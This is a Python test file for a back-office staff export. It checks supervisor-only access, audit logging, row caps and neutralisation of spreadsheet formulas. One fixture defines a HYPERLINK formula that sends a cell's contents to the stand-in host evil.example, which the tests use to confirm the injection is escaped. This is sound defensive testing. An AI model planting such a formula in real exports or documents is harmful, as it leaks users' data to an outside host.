"""Flask-Admin's own export, kept on the small lists (staff, content): supervisors only, capped, audited, formula-safe.

The big lists (queues, outbox, audit trail) export through the Exports page instead: tests/backoffice/test_reports.py.
"""

from __future__ import annotations

import csv
import io
from dataclasses import replace

from openpyxl import load_workbook
from sqlalchemy import select

from backoffice.views.base import formula_safe
from models.audit.entities import AuditEvent
from models.staff.entities import StaffRole
from tests.factories import make_staff

from .support import MountedClient, local

EXPORT = "/personnel/export/{}/"
EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Clinique")'


def test_formula_prefixes_are_neutralised():
    for value in ("=1+1", "+33 4", "-2", "@SUM(A1)", "\tx", "\rx"):
        assert formula_safe(value) == "'" + value
    assert formula_safe("Clinique des Cèdres") == "Clinique des Cèdres"
    assert formula_safe(42) == 42 and formula_safe(None) is None


def _evil_staff(session):
    user = make_staff(session, StaffRole.AGENT)
    user.full_name = EVIL
    session.commit()
    return user


def test_csv_export_neutralises_formulas(session, as_staff, admin):
    _evil_staff(session)
    response = as_staff(admin).get(EXPORT.format("csv"))
    assert response.status_code == 200 and response.mimetype == "text/csv"
    rows = list(csv.reader(io.StringIO(response.get_data(as_text=True))))
    assert rows[0][:2] == ["E-mail", "Nom"]
    assert {row[1] for row in rows[1:]} == {"'" + EVIL, "Test admin"}


def test_xlsx_export_has_no_live_formula(session, as_staff, admin):
    _evil_staff(session)
    response = as_staff(admin).get(EXPORT.format("xlsx"))
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.data)).active
    names = {sheet.cell(row=r, column=2).value: sheet.cell(row=r, column=2).data_type for r in (2, 3)}
    assert names["'" + EVIL] == "s"


def test_agents_cannot_export_a_list(as_staff, agent):
    client = as_staff(agent)
    assert "/export/" not in client.get("/prises-en-charge/").get_data(as_text=True)
    response = client.get("/prises-en-charge/export/csv/")
    assert response.status_code == 302 and local(response.location) == "/prises-en-charge/"


def test_exports_are_audited(session, as_staff, admin):
    as_staff(admin).get(EXPORT.format("csv"))
    event = session.scalar(select(AuditEvent).where(AuditEvent.action == "backoffice.exported"))
    assert event.actor_id == admin.id and event.details["view"] == "staff" and event.details["format"] == "csv"


def test_exports_are_capped_by_the_configuration(backoffice_config, migrated_database, session, admin):
    from backoffice import create_app
    from tests.helpers import login_staff

    for _ in range(3):
        make_staff(session, StaffRole.AGENT)
    app = create_app(replace(backoffice_config, export_max_rows=2))
    app.test_client_class = MountedClient
    client = app.test_client()
    login_staff(client, admin)
    rows = list(csv.reader(io.StringIO(client.get(EXPORT.format("csv")).get_data(as_text=True))))
    assert len(rows) == 1 + 2
